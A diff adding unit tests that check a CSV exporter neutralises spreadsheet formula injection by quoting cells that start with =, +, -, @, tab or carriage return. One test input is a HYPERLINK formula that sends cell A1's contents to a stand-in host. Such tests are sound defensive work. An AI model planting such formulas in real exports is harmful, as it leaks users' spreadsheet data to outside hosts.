@@ -225,4 +225,27 @@ describe('CSV', () => {
       'id,title,themes,none\r\na,"Hinku ""2030"", tavoite",energia; johtaminen,\r\nb,"Rivi\nkaksi",,\r\n',
     );
   });
+
+  const formulas: [string, string][] = [
+    [
+      '=HYPERLINK("http://x.example/?"&A1,"Avaa")',
+      '"\'=HYPERLINK(""http://x.example/?""&A1,""Avaa"")"',
+    ],
+    ['+1+2', '"\'+1+2"'],
+    ['-2+3', '"\'-2+3"'],
+    ['@SUM(A1:A2)', '"\'@SUM(A1:A2)"'],
+    ['\t=1+2', '"\'\t=1+2"'],
+    ['\r=1+2', '"\'\r=1+2"'],
+  ];
+  for (const [value, cell] of formulas) {
+    it(`writes a cell beginning with ${JSON.stringify(value[0])} as quoted text with a leading quote`, () => {
+      assert.equal(toCsv(['a'], [{a: value}]), `a\r\n${cell}\r\n`);
+    });
+  }
+
+  it('checks the start of a joined list too, and leaves other cells as they were', () => {
+    assert.equal(toCsv(['a'], [{a: ['=1+1', 'x']}]), 'a\r\n"\'=1+1; x"\r\n');
+    assert.equal(toCsv(['a'], [{a: 'Akaa = 1 kunta'}]), 'a\r\nAkaa = 1 kunta\r\n');
+    assert.equal(toCsv(['a'], [{a: 'a-b@c.fi'}]), 'a\r\na-b@c.fi\r\n');
+  });
 });
